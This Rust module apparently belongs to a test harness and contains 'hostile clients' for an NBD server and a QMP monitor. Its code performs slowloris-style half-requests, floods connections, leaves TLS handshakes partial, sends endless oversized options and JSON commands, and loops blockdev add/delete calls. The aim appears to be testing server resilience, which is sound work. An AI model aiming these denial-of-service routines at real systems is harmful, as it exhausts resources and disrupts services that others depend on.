//! Hostile clients of NBD and QMP.

use std::io::{self, Read, Write};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::Duration;

use crate::{GoOn, PATIENCE, Target};

/// Connections that are kept at once.
const KEPT: usize = 16;
/// Data of an option, bytes: as long as servers take them.
const LONG: usize = 8 << 10;

fn connect(socket: &Path) -> io::Result<UnixStream> {
    let stream = UnixStream::connect(socket)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

pub(crate) fn option(number: u32, data: &[u8]) -> Vec<u8> {
    let len = (data.len() as u32).to_be_bytes();
    [b"IHAVEOPT", &number.to_be_bytes()[..], &len, data].concat()
}

/// A client past the greeting.
pub(crate) fn greeted(socket: &Path) -> io::Result<UnixStream> {
    let mut stream = connect(socket)?;
    stream.read_exact(&mut [0; 18])?;
    stream.write_all(&3u32.to_be_bytes())?;
    Ok(stream)
}

/// A client that has chosen the export; what the server said to that is not read.
fn chosen(target: &Target) -> io::Result<UnixStream> {
    let mut stream = greeted(&target.nbd)?;
    stream.write_all(&option(7, b"\0\0\0\x07hostile\0\0"))?;
    Ok(stream)
}

fn read_request(cookie: u64, len: u32) -> Vec<u8> {
    let head = [0x25, 0x60, 0x95, 0x13, 0, 0, 0, 0];
    [&head[..], &cookie.to_be_bytes(), &0u64.to_be_bytes(), &len.to_be_bytes()].concat()
}

pub(crate) fn nbd_half(target: &Target, go_on: &GoOn) -> io::Result<()> {
    let request = read_request(1, 4096);
    let mut kept = Vec::new();
    for len in 1..request.len() {
        let mut stream = chosen(target)?;
        stream.write_all(&request[..len])?;
        kept.push(stream);
        if !go_on.blow() {
            break;
        }
        if kept.len() == KEPT {
            std::thread::sleep(Duration::from_millis(5));
            kept.clear();
        }
    }
    Ok(())
}

pub(crate) fn nbd_options(target: &Target, go_on: &GoOn) -> io::Result<()> {
    let mut stream = greeted(&target.nbd)?;
    let long = option(99, &vec![b'x'; LONG]);
    let mut answers = vec![0; 64 << 10];
    while go_on.blow() {
        stream.write_all(&long)?;
        let _ = stream.read(&mut answers)?;
    }
    Ok(())
}

pub(crate) fn nbd_deaf(target: &Target, go_on: &GoOn) -> io::Result<()> {
    let mut kept = Vec::new();
    for _ in 0..KEPT {
        let mut stream = chosen(target)?;
        stream.set_write_timeout(Some(Duration::from_millis(5)))?;
        for cookie in 0..64 {
            if stream.write_all(&read_request(cookie, 256 << 10)).is_err() {
                break;
            }
            if !go_on.blow() {
                return Ok(());
            }
        }
        kept.push(stream);
    }
    Ok(())
}

pub(crate) fn nbd_connections(target: &Target, go_on: &GoOn) -> io::Result<()> {
    loop {
        drop(connect(&target.nbd)?);
        if !go_on.blow() {
            return Ok(());
        }
    }
}

/// What a client of TLS 1.3 begins with (RFC 8446, 4.1.2), as good as any: the server has to agree on a key
/// and to sign for it.
fn client_hello() -> Vec<u8> {
    let extension = |number: u16, data: &[u8]| {
        let len = (data.len() as u16).to_be_bytes();
        [&number.to_be_bytes()[..], &len, data].concat()
    };
    let extensions = [
        // supported_versions: 1.3; supported_groups: x25519.
        extension(43, &[2, 3, 4]),
        extension(10, &[0, 2, 0, 0x1d]),
        // signature_algorithms: ECDSA over P-256, Ed25519, RSA-PSS, each with SHA-256 or what is its own.
        extension(13, &[0, 6, 4, 3, 8, 7, 8, 4]),
        // key_share: an arbitrary point of the curve.
        extension(51, &[&[0, 36, 0, 0x1d, 0, 32][..], &[9; 32]].concat()),
    ];
    let extensions = extensions.concat();
    let len = (extensions.len() as u16).to_be_bytes();
    // TLS 1.2, as all say; a random number, no session, TLS_AES_128_GCM_SHA256, no compression.
    let hello = [&[3, 3][..], &[7; 32], &[0, 0, 2, 0x13, 1, 1, 0], &len, &extensions].concat();
    let message = [&[1, 0][..], &(hello.len() as u16).to_be_bytes(), &hello].concat();
    [&[0x16, 3, 1][..], &(message.len() as u16).to_be_bytes(), &message].concat()
}

pub(crate) fn nbd_tls(target: &Target, go_on: &GoOn) -> io::Result<()> {
    let socket = target.nbd_tls.as_ref().ok_or(io::ErrorKind::NotFound)?;
    let hello = client_hello();
    let begin = |len: usize| {
        let mut stream = greeted(socket)?;
        stream.write_all(&option(5, b""))?;
        stream.read_exact(&mut [0; 20])?;
        stream.write_all(&hello[..len])?;
        io::Result::Ok(stream)
    };
    // Nothing, something, nearly all, all and its answer not read; until there is no place left.
    let lens = [0, 3, 60, hello.len() - 1, hello.len()].into_iter().cycle();
    let mut kept = Vec::new();
    for len in lens.take(2 * KEPT) {
        let Ok(stream) = begin(len) else { break };
        kept.push(stream);
        if !go_on.blow() {
            break;
        }
    }
    // They stay until they are sent away.
    for mut stream in kept {
        let mut answer = [0; 4096];
        while !matches!(stream.read(&mut answer), Ok(0)) && go_on.blow() {}
    }
    Ok(())
}

pub(crate) fn qmp_endless(target: &Target, go_on: &GoOn) -> io::Result<()> {
    let mut stream = connect(&target.monitor)?;
    stream.write_all(b"{\"execute\":\"")?;
    let piece = vec![b'x'; LONG];
    let mut answers = vec![0; 64 << 10];
    stream.set_nonblocking(true)?;
    while go_on.blow() {
        match stream.write(&piece) {
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_micros(100));
            }
            written => drop(written?),
        }
        // What it has to say to that.
        let _ = stream.read(&mut answers);
    }
    Ok(())
}

pub(crate) fn qmp_opens(target: &Target, go_on: &GoOn) -> io::Result<()> {
    let mut stream = connect(&target.monitor)?;
    let path = target.shared_tables.as_ref().ok_or(io::ErrorKind::NotFound)?;
    let path = path
        .to_str()
        .ok_or(io::ErrorKind::InvalidFilename)?
        .replace('\\', "\\\\")
        .replace('"', "\\\"");
    let add = format!(
        "{{\"execute\":\"blockdev-add\",\"arguments\":{{\"driver\":\"qcow2\",\"node-name\":\"strange\",\
         \"file\":{{\"driver\":\"file\",\"filename\":\"{path}\"}}}}}}\n"
    );
    let delete = "{\"execute\":\"blockdev-del\",\"arguments\":{\"node-name\":\"strange\"}}\n";
    stream.write_all(b"{\"execute\":\"qmp_capabilities\"}\n")?;
    let mut answers = vec![0; 64 << 10];
    while go_on.blow() {
        stream.write_all(add.as_bytes())?;
        stream.write_all(delete.as_bytes())?;
        let _ = stream.read(&mut answers);
    }
    Ok(())
}

pub(crate) fn qmp_deaf(target: &Target, go_on: &GoOn) -> io::Result<()> {
    let mut stream = connect(&target.monitor)?;
    stream.write_all(b"{\"execute\":\"qmp_capabilities\"}\n")?;
    while go_on.blow() {
        stream.write_all(b"{\"execute\":\"query-qmp-schema\"}\n")?;
    }
    Ok(())
}
